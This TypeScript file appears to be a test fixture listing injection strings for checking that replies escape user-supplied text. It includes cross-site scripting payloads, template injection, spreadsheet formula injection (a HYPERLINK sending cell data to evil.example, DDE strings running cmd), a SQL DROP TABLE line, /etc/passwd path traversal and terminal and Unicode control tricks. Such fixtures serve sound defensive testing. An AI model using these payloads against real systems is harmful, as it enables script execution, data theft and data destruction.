/** Texts with which strangers try to become markup, code or a formula in a reply. */

/** A word in each of them, by which a test finds it in a reply. */
export const MARK = "h0stile";

export const hostileStrings: Record<string, string> = {
  "a script element": `<script>alert("${MARK}")</script>`,
  "an image that fails": `<img src=x onerror=alert('${MARK}')>`,
  "a way out of an attribute": `"><svg onload=alert("${MARK}")> ' onfocus=${MARK} autofocus='`,
  "a way out of a textarea": `</textarea></title></style><script>${MARK}</script>`,
  "a way out of a script": `</script><script>${MARK}()</script><!--`,
  "a comment's end": `--><b>${MARK}</b>`,
  "an address that runs": `javascript:alert('${MARK}')`,
  "a template": `{{constructor.constructor('${MARK}')()}} \${${MARK}} <%= ${MARK} %>`,
  "line ends of JavaScript": `\u2028${MARK}\u2029`,
  "bidi controls": `\u202e${MARK}\u202c \u2066x\u2069 \u200f`,
  "zero-width characters": `${MARK}\u200b\u200c\u200d\ufeff\u2060`,
  "a formula": `=HYPERLINK("http://evil.example/?"&A1,"${MARK}")`,
  "a formula in disguise": `@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}`,
  "a minus that is a formula": `-2+3+cmd|' /C ${MARK}'!A0`,
  "a tab and a formula": `\t=1+1 ${MARK}`,
  "a full-width formula": `＝1+1 ${MARK}`,
  "a quoted line break": `"${MARK}\r\n=1+1\n","=2"`,
  "ANSI escapes": `\u001b[31m${MARK}\u001b]0;title\u0007\u009b2J`,
  "a call to the channel": `<!channel> <!here> @everyone <@U123> ${MARK} *bold* \`code\``,
  "a run of emoji": `${"👩‍👩‍👧‍👦🏳️‍🌈".repeat(40)}${MARK}`,
  "stacked accents": `${MARK}${"\u0301".repeat(150)}`,
  "half an emoji": `${MARK} \ud83d`,
  "a null byte": `${MARK}\u0000.png`,
  SQL: `${MARK}'; DROP TABLE responses; --`,
  "a path": `../../etc/passwd ${MARK} %00 %2e%2e%2f`,
  "a prototype": `__proto__ ${MARK}`,
};
